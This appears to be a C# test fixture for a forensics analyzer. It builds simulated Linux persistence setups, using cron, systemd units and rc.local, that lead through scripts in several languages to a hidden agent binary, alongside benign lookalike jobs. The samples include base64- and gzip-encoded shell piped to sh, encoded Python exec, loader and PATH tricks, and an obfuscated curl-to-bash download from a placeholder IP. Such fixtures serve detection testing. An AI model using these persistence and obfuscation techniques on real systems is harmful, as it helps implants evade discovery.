using System.IO.Compression;
using System.Text;
using Forensics.Analyzer.Risk;
using static Forensics.Analyzer.Tests.Detection.PlantKind;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>Entries that say nothing and lead somewhere: over scripts, programs in other languages, encodings and links to what is bad. Their twins are the chains of everyday.</summary>
internal static class ResolverPlants
{
    private const string Agent = "/usr/lib/.cache-d/agent";
    private const string Head = "# m h dom mon dow command\n";
    private const string Root = "/var/spool/cron/crontabs/root";

    private static string Base64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));

    private static byte[] Gzip(string text)
    {
        using var packed = new MemoryStream();
        using (var gzip = new GZipStream(packed, CompressionLevel.Optimal, leaveOpen: true))
        {
            gzip.Write(Encoding.UTF8.GetBytes(text));
        }
        return packed.ToArray();
    }

    private static Plant Cron(string name, string command, Action<PlantTree> more) => new("L-CRON-USER", "via-" + name, Quiet, tree =>
    {
        tree.Crontab("root", Head + "17 3 * * * " + command + "\n");
        more(tree.Program(Agent));
    })
    { Entries = [Root] };

    private static Plant Unit(string name, string execStart, Action<PlantTree> more) => new("L-UNIT", "via-" + name, Quiet, tree =>
    {
        tree.Service("app-sync", execStart);
        more(tree.Program(Agent));
    })
    { Entries = ["/etc/systemd/system/app-sync.service"] };

    private static Plant RcLocal(string name, string line, Action<PlantTree> more) => new("L-RCLOCAL", "via-" + name, Quiet, tree =>
    {
        tree.Script("/etc/rc.local", "#!/bin/sh\n" + line + "\nexit 0\n");
        more(tree.Program(Agent));
    })
    { Entries = ["/etc/rc.local"] };

    private static Plant Everyday(string id, string name, Action<PlantTree> make) => new(id, "via-" + name, Benign, make);

    public static IReadOnlyList<Plant> All { get; } =
    [
        Cron("script", "/usr/local/sbin/rotate-cache", tree => tree.Script("/usr/local/sbin/rotate-cache", "#!/bin/sh\nset -e\n" + Agent + " --quiet\n")),
        Cron("two-scripts", "/usr/local/sbin/rotate-cache", tree => tree.Script("/usr/local/sbin/rotate-cache", "#!/bin/bash\n. /usr/local/lib/rotate/common.sh\n").File("/usr/local/lib/rotate/common.sh", "D=/usr/lib\nP=$D/.cache-d\nexec \"$P/agent\" \"$@\"\n")),
        Cron("four-scripts", "/usr/local/sbin/a", tree => tree.Script("/usr/local/sbin/a", "#!/bin/sh\nb\n").Script("/usr/local/bin/b", "#!/bin/sh\nsh /usr/local/share/c\n")
            .File("/usr/local/share/c", "cd /usr/local/share && ./d\n").Script("/usr/local/share/d", "#!/bin/sh\nnohup " + Agent + " &\n")),
        Cron("script-without-x", "bash /usr/local/share/sync/run.txt", tree => tree.File("/usr/local/share/sync/run.txt", "sleep 5\n" + Agent + "\n")),
        Cron("python-subprocess", "/usr/bin/python3 /usr/local/lib/sync/main.py", tree => tree.File("/usr/local/lib/sync/main.py", "import subprocess\nCMD = ['" + Agent + "', '-q']\nsubprocess.Popen(CMD, close_fds=True)\n")),
        Cron("python-module", "python3 /usr/local/lib/sync/main.py", tree => tree.File("/usr/local/lib/sync/main.py", "import os, helpers\nhelpers.run()\n")
            .File("/usr/local/lib/sync/helpers.py", "import os\nBASE = '/usr/lib'\ndef run():\n    os.system(BASE + '/.cache-d/agent &')\n")),
        Cron("perl", "perl /usr/local/lib/sync.pl", tree => tree.File("/usr/local/lib/sync.pl", "#!/usr/bin/perl\nuse strict;\nmy $p = q(" + Agent + ");\nsystem(\"$p -q\");\n")),
        Cron("php", "php /var/www/cron.php", tree => tree.File("/var/www/cron.php", "<html></html><?php\n$dir = '/usr/lib';\nshell_exec($dir . '/.cache-d/agent > /dev/null');\n")),
        Cron("node", "node /srv/app/cron.js", tree => tree.File("/srv/app/cron.js", "const job = require('./lib/job');\njob();\n").File("/srv/app/lib/job.js", "const { spawn } = require('child_process');\nmodule.exports = () => spawn('" + Agent + "', [], { detached: true });\n")),
        Cron("ruby", "ruby /srv/app/cron.rb", tree => tree.File("/srv/app/cron.rb", "require_relative 'job'\n").File("/srv/app/job.rb", "def go\n  spawn('" + Agent + "')\nend\ngo\n")),
        Cron("base64-file", "base64 -d /usr/share/misc/sync.dat | sh", tree => tree.File("/usr/share/misc/sync.dat", Base64("#!/bin/sh\n" + Agent + " -q\n") + "\n")) with { Entries = [] },
        Cron("gzip-file", "zcat /usr/share/misc/sync.gz | sh", tree => tree.Add(new PlantedFile("/usr/share/misc/sync.gz", Forensics.Parsers.FileType.Regular) { Content = Gzip("exec " + Agent + "\n"), Mode = 0b110_100_100, Modified = PlantTree.Planted, Created = PlantTree.Planted })),
        Cron("relative-home", "./bin/refresh", tree => tree.Script("/root/bin/refresh", "#!/bin/sh\n$(dirname \"$0\")/../.local.d/agent\n").Program("/root/.local.d/agent")),
        Cron("written-script", "/usr/local/sbin/refresh", tree => tree.Script("/usr/local/sbin/refresh", "#!/bin/sh\ncat > /run/refresh.sh <<'EOF'\n" + Agent + " -q\nEOF\nsh /run/refresh.sh\n")) with { AtLeast = Severity.Medium },
        Cron("disguised-download", "/usr/local/sbin/refresh", tree => tree.Script("/usr/local/sbin/refresh", "#!/bin/bash\na=cu\nb=rl\nh=198.51.100\n$a$b -s http://$h.7/u | ba''sh\n")),
        Cron("encoded-python", "python3 /usr/local/lib/sync.py", tree => tree.File("/usr/local/lib/sync.py", "import base64\nexec(base64.b64decode('" + Base64("import os\nos.system('" + Agent + "')\n") + "'))\n")),
        Cron("include-cycle", "/usr/local/sbin/rotate-cache", tree => tree.Script("/usr/local/sbin/rotate-cache", "#!/bin/sh\n. /usr/local/lib/rotate/a.sh\n").File("/usr/local/lib/rotate/a.sh", ". /usr/local/lib/rotate/b.sh\n")
            .File("/usr/local/lib/rotate/b.sh", ". /usr/local/lib/rotate/a.sh\n/usr/local/sbin/rotate-cache\n" + Agent + "\n")),
        Cron("import-cycle", "python3 /usr/local/lib/sync/main.py", tree => tree.File("/usr/local/lib/sync/main.py", "import a\n").File("/usr/local/lib/sync/a.py", "import b, main\n").File("/usr/local/lib/sync/b.py", "import a\nimport os\nos.execl('" + Agent + "', 'x')\n")),
        Unit("env-split", "/usr/bin/env -S bash /usr/local/lib/app/start", tree => tree.File("/usr/local/lib/app/start", "exec -a app-sync " + Agent + "\n")),
        Unit("shebang-env-split", "/usr/local/lib/app/start", tree => tree.Script("/usr/local/lib/app/start", "#!/usr/bin/env -S python3 -u\nimport os\nos.execv('" + Agent + "', ['app'])\n")),
        Unit("here-document", "/usr/local/lib/app/start", tree => tree.Script("/usr/local/lib/app/start", "#!/bin/sh\nbase64 -d <<'EOF' | sh\n" + Base64("#!/bin/sh\n" + Agent + "\n") + "\nEOF\n")),
        Unit("gzip-layer", "/usr/local/lib/app/start", tree => tree.Script("/usr/local/lib/app/start", "#!/bin/sh\necho " + Convert.ToBase64String(Gzip("nohup " + Agent + " &\n")) + " | base64 -d | gunzip | sh\n")),
        Unit("linked-interpreter", "/usr/lib/app/runtime /usr/lib/app/main", tree => tree.Link("/usr/lib/app/runtime", "/usr/bin/python3").File("/usr/lib/app/main", "import os\nos.system('" + Agent + "')\n")),
        Unit("shell-function", "/usr/local/lib/app/start", tree => tree.Script("/usr/local/lib/app/start", "#!/bin/bash\nrun() {\n  \"$@\"\n}\nmain() {\n  run " + Agent + " -q\n}\nmain\n")),
        Unit("own-path", "/bin/sh -c 'PATH=/usr/lib/.cache-d:$PATH; exec agent'", _ => { }),
        Unit("loader", "/lib64/ld-linux-x86-64.so.2 " + "/usr/lib/app/core", tree => tree.Link("/usr/lib64/ld-linux-x86-64.so.2", "../lib/x86_64-linux-gnu/ld-linux-x86-64.so.2").Link("/usr/lib/app/core", Agent)),
        RcLocal("sourced", "[ -r /etc/default/app ] && . /etc/default/app", tree => tree.File("/etc/default/app", "APP_OPTS=\"-q\"\n( " + Agent + " $APP_OPTS ) &\n")),
        RcLocal("two-languages", "/usr/local/bin/prepare", tree => tree.Script("/usr/local/bin/prepare", "#!/usr/bin/perl\nexec 'python3', '/usr/local/share/prepare.py';\n").File("/usr/local/share/prepare.py", "import pty\npty.spawn(['" + Agent + "'])\n")),
        RcLocal("at-job", "echo /usr/local/share/late | at now + 2 minutes", tree => tree.Script("/usr/local/share/late", "#!/bin/sh\n" + Agent + "\n")),
        RcLocal("chroot", "chroot /srv/jail /usr/lib/.x/agent", tree => tree.Program("/srv/jail/usr/lib/.x/agent")) with { Entries = [] },
        new("L-UNIT", "via-script-not-enabled", Dormant, tree => tree.Service("app-sync", "/usr/local/lib/app/start", enabled: false).Script("/usr/local/lib/app/start", "#!/usr/bin/env -S python3 -u\nimport os\nos.execv('" + Agent + "', ['app'])\n").Program(Agent)) { TwinOf = "via-shebang-env-split" },
        new("L-RCLOCAL", "via-after-exit", Dormant, tree => tree.Script("/etc/rc.local", "#!/bin/sh\nexit 0\n[ -r /etc/default/app ] && . /etc/default/app\n").File("/etc/default/app", "APP_OPTS=\"-q\"\n( " + Agent + " $APP_OPTS ) &\n").Program(Agent)) { TwinOf = "via-sourced" },

        Everyday("L-CRON-USER", "acme", tree => tree.Crontab("root", Head + "12 0 * * * \"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\" > /dev/null\n")
            .Script("/root/.acme.sh/acme.sh", "#!/usr/bin/env sh\nVER=3.0.7\nPROJECT=\"https://github.com/acmesh-official/$PROJECT_NAME\"\n_exists() {\n  cmd=\"$1\"\n  command -v \"$cmd\" >/dev/null 2>&1\n}\n_base64() {\n  openssl base64 -e\n}\n_get() {\n  curl -L --silent -g \"$1\"\n}\nmain() {\n  . \"$LE_WORKING_DIR/account.conf\"\n  _get https://acme-v02.api.letsencrypt.org/directory\n}\nmain \"$@\"\n")),
        Everyday("L-CRON-USER", "nvm", tree => tree.Crontab("alice", Head + "0 4 * * * . $HOME/.nvm/nvm.sh && nvm use 20 && node $HOME/app/report.js\n")
            .File("/home/alice/.nvm/nvm.sh", "nvm_download() {\n  curl --fail -q \"$@\"\n}\nnvm() {\n  local COMMAND\n  COMMAND=\"${1-}\"\n  eval \"$(nvm_get_os)\"\n}\n", user: 1000, group: 1000)
            .File("/home/alice/app/report.js", "const { execSync } = require('child_process');\nconst out = execSync('git rev-parse HEAD');\nrequire('./lib/mail')(out);\n", user: 1000, group: 1000).File("/home/alice/app/lib/mail.js", "module.exports = text => console.log(text);\n", user: 1000, group: 1000)),
        Everyday("L-CRON-USER", "conda", tree => tree.Crontab("alice", Head + "0 4 * * * /home/alice/miniconda3/bin/python /home/alice/jobs/train.py\n").Program("/home/alice/miniconda3/bin/python")
            .File("/home/alice/jobs/train.py", "import subprocess, sys, base64\nfrom jobs import util\nsubprocess.check_call([sys.executable, '-m', 'pip', 'list'])\nsubprocess.run(['rsync', '-a', '/home/alice/data/', 'nas:/data/'])\nkey = base64.b64decode('c2VjcmV0LWtleS1vZi10aGUtYXBp')\n", user: 1000, group: 1000)),
        Everyday("L-CRON-SYS", "certbot", tree => tree.File("/etc/cron.d/certbot", "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew --no-random-sleep-on-renew\n")),
        Everyday("L-CRON-USER", "backup-chain", tree => tree.Crontab("root", Head + "30 2 * * * flock -n /var/lock/backup.lock nice -n 19 ionice -c3 /opt/backup/run.sh >> /var/log/backup.log 2>&1\n")
            .Script("/opt/backup/run.sh", "#!/bin/bash\nset -euo pipefail\ncd \"$(dirname \"$0\")\"\n. ./lib.sh\n. ./conf/backup.conf\nTMP=$(mktemp -d /tmp/backup.XXXXXX)\ntrap 'rm -rf \"$TMP\"' EXIT\n./dump.sh \"$TMP\"\n./upload.sh \"$TMP\"\n")
            .File("/opt/backup/lib.sh", "log() { echo \"$(date +%F) $*\"; }\nretry() { for i in 1 2 3; do \"$@\" && return; sleep 5; done; }\n")
            .File("/opt/backup/conf/backup.conf", "DB=app\nTARGET=backup@203.0.113.20\nPASSWORD=$(base64 -d < /opt/backup/conf/secret)\n").File("/opt/backup/conf/secret", Base64("correct horse battery staple") + "\n", 0b110_000_000)
            .Script("/opt/backup/dump.sh", "#!/bin/bash\nmysqldump app | gzip > \"$1/app.sql.gz\"\n").Script("/opt/backup/upload.sh", "#!/bin/bash\nscp -q \"$1\"/* backup@203.0.113.20:/srv/\nexec /opt/backup/notify.py\n")
            .Script("/opt/backup/notify.py", "#!/usr/bin/python3\nimport smtplib, subprocess\nhost = subprocess.check_output(['hostname', '-f'])\n")),
        Everyday("L-UNIT", "ci-runner", tree => tree.Service("actions.runner", "/opt/actions-runner/runsvc.sh", "User=alice\nWorkingDirectory=/opt/actions-runner\n")
            .Script("/opt/actions-runner/runsvc.sh", "#!/bin/bash\nif [ -f \".path\" ]; then\n    export PATH=`cat .path`\nfi\nnodever=\"node20\"\n./externals/$nodever/bin/node ./bin/RunnerService.js &\nPID=$!\nwait $PID\n")
            .Program("/opt/actions-runner/externals/node20/bin/node").File("/opt/actions-runner/bin/RunnerService.js", "var childProcess = require('child_process');\nvar listener = childProcess.spawn('/opt/actions-runner/bin/Runner.Listener', ['run']);\n").Program("/opt/actions-runner/bin/Runner.Listener")),
        Everyday("L-INITD", "functions", tree => tree.Script("/etc/init.d/app", "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: app\n### END INIT INFO\n. /lib/lsb/init-functions\nDAEMON=/usr/sbin/nginx\ncase \"$1\" in\n  start)\n    log_daemon_msg \"Starting\" app\n    start-stop-daemon --start --quiet --pidfile /run/app.pid --exec $DAEMON -- -g 'daemon on;'\n    ;;\n  stop)\n    killproc -p /run/app.pid $DAEMON\n    ;;\nesac\n")
            .File("/usr/lib/lsb/init-functions", "pidofproc () {\n    local pidfile base status\n    base=${1##*/}\n    if [ -n \"${pidfile:-}\" ]; then\n        read pid < \"$pidfile\"\n        kill -0 \"${pid:-}\" 2> /dev/null\n    fi\n}\nkillproc () {\n    kill -s TERM $(pidofproc \"$@\")\n}\nlog_daemon_msg () {\n    echo -n \"$1: $2\"\n}\n")),
        Everyday("L-RCLOCAL", "cleanup-of-administrators", tree => tree.Script("/etc/rc.local", "#!/bin/sh -e\niptables-restore < /etc/iptables.rules\n/usr/local/sbin/tune\nexit 0\n")
            .Script("/usr/local/sbin/tune", "#!/bin/sh\necho never > /sys/kernel/mm/transparent_hugepage/enabled\nsysctl -w vm.nr_hugepages=1024\nulimit -n 65535\n")),
        Everyday("L-CRON-USER", "incident-notes", tree => tree.Crontab("root", Head + "*/10 * * * * /usr/local/sbin/check-load\n")
            .Script("/usr/local/sbin/check-load", "#!/bin/bash\n# left from the incident: these names were seen\nfor p in xmrig kdevtmpfsi; do\n  pgrep -a \"$p\" && echo \"$p runs\" | logger\ndone\ngrep -r 'stratum+tcp' /etc/cron.d /var/spool/cron || true\n")),
        Everyday("L-UNIT", "installer", tree => tree.Service("vendor-agent", "/opt/vendor/setup.run --daemon").Script("/opt/vendor/setup.run", "#!/bin/sh\nskip=20\nMS_dd() {\n  dd if=\"$1\" ibs=$2 skip=1\n}\ntail -n +$skip \"$0\" | tar xzf - -C /opt/vendor/app\n/opt/vendor/app/agentd\n").Program("/opt/vendor/app/agentd")),
    ];
}
